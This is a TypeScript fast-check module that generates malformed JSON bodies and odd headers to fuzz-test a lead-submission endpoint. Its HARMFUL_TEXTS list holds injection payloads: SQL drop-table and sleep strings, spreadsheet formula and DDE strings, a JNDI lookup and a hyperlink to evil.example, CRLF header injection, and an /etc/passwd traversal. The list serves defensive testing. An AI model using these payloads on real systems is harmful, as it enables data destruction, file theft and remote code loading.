import fc from "fast-check";
import { leadWith, leadWithout, sampleLead } from "@contractor-roi/lead-store/testing/sample-leads";

/** Values that no field of the contract takes. */
const neverValid = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.array(fc.jsonValue(), { maxLength: 3 }),
  fc.dictionary(fc.string(), fc.jsonValue(), { maxKeys: 3 }).filter((value) => !("email" in value)),
);
const fields = Object.keys(sampleLead()) as (keyof ReturnType<typeof sampleLead>)[];
const contactFields = Object.keys(sampleLead().contact) as (keyof ReturnType<typeof sampleLead>["contact"])[];

const anyJson = fc.jsonValue().map((value) => JSON.stringify(value));
const anyText = fc.string({ unit: "binary" });
const anyBytes = fc.uint8Array({ maxLength: 300 });
const wrongField = fc
  .tuple(fc.constantFrom(...fields), neverValid)
  .map(([field, value]) =>
    JSON.stringify(leadWith({ [field]: value } as never)).replace(/"contact":\{.*?\}/, (contact) =>
      field === "contact" ? `"contact":${JSON.stringify(value)}` : contact,
    ),
  );
const wrongContactField = fc
  .tuple(fc.constantFrom(...contactFields), neverValid)
  .map(([field, value]) => JSON.stringify(leadWith({ contact: { [field]: value } })));
const missingField = fc
  .constantFrom(...fields.map((field) => `/${field}`), ...contactFields.map((field) => `/contact/${field}`))
  .map((pointer) => JSON.stringify(leadWithout(pointer)));
const cutOff = fc
  .nat({ max: JSON.stringify(sampleLead()).length - 1 })
  .map((end) => JSON.stringify(sampleLead()).slice(0, end));
const deep = fc
  .tuple(fc.constantFrom("[", '{"contact":', '{"a":['), fc.nat({ max: 1600 }))
  .map(([open, times]) => open.repeat(times));
const deepValue = fc.nat({ max: 7000 }).map((depth) => `{"contact":${"[".repeat(depth)}${"]".repeat(depth)}}`);
const hugeNumber = fc
  .tuple(
    fc.constantFrom("1e400", "-1e400", "9007199254740993", "-9007199254740993", "1e308"),
    fc.constantFrom("jobs_per_month", "avg_job_profit"),
  )
  .map(([number, field]) =>
    JSON.stringify(sampleLead()).replace(new RegExp(`"${field}":[0-9]+`), `"${field}":${number}`),
  );
const duplicateKey = fc
  .constantFrom(...fields)
  .map((field) => JSON.stringify(sampleLead()).replace(/\}$/, `,"${field}":null}`));

/** Texts that do harm if they are taken for a statement, a formula or a header. */
const HARMFUL_TEXTS = [
  "'; drop table public.leads; --",
  "1) or 1=1 --",
  "\\'; select pg_sleep(10); --",
  "$1::jsonb",
  '=HYPERLINK("https://evil.example","x")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "x\r\nSet-Cookie: a=b",
  "x\u2028\u0000\uFEFF",
  "../../../../etc/passwd",
  "${jndi:ldap://evil.example/a}",
  "__proto__",
];
const harmfulField = fc
  .tuple(
    fc.constantFrom("selected_plan", "jobs_per_month", "business_tier", "lead_source"),
    fc.constantFrom(...HARMFUL_TEXTS),
  )
  .map(([field, text]) => JSON.stringify(leadWith({ [field]: text })));
const pollution = fc
  .constantFrom("__proto__", "constructor", "toString")
  .map((key) => `{"${key}":${JSON.stringify(sampleLead())},"contact":{"${key}":1}}`);

/** Bodies that are no lead, in every way that a body can be none. */
export const malformedBody: fc.Arbitrary<string | Uint8Array<ArrayBuffer>> = fc.oneof(
  anyJson,
  anyText,
  anyBytes as fc.Arbitrary<Uint8Array<ArrayBuffer>>,
  wrongField,
  wrongContactField,
  missingField,
  cutOff,
  deep,
  deepValue,
  hugeNumber,
  duplicateKey,
  harmfulField,
  pollution,
);
/** Headers as anybody may send them, with values that are no use. */
export const oddHeaders = fc.record(
  {
    "content-type": fc.constantFrom(
      "application/json",
      "application/json; charset=latin1",
      "text/plain",
      "",
      "*/*",
      "application/json;;;",
    ),
    "idempotency-key": fc.oneof(fc.uuid(), fc.stringMatching(/^[\x20-\x7e]{0,80}$/)),
    "content-length": fc.constantFrom("0", "-1", "NaN", "99999999999999999999", "1e3"),
    origin: fc.constantFrom("null", "https://page.example", "javascript:alert(1)"),
  },
  { requiredKeys: [] },
);
